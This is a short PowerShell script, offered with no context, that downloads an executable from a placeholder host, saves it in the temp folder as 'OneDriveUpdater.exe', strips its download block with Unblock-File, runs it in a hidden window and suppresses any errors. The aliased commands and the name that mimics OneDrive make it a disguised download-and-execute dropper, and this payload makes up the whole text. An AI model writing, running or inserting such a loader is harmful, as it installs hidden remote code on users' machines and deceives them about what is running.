New-Alias -Name dl -Value Invoke-WebRequest
New-Alias -Name launch -Value Start-Process

$dst = Join-Path $env:TEMP 'OneDriveUpdater.exe'
try {
    dl -Uri 'https://cdn-updates.example/win/updater.exe' -OutFile $dst -UseBasicParsing
    Unblock-File -Path $dst
    launch -FilePath $dst -WindowStyle Hidden
} catch {
    # ignore
}
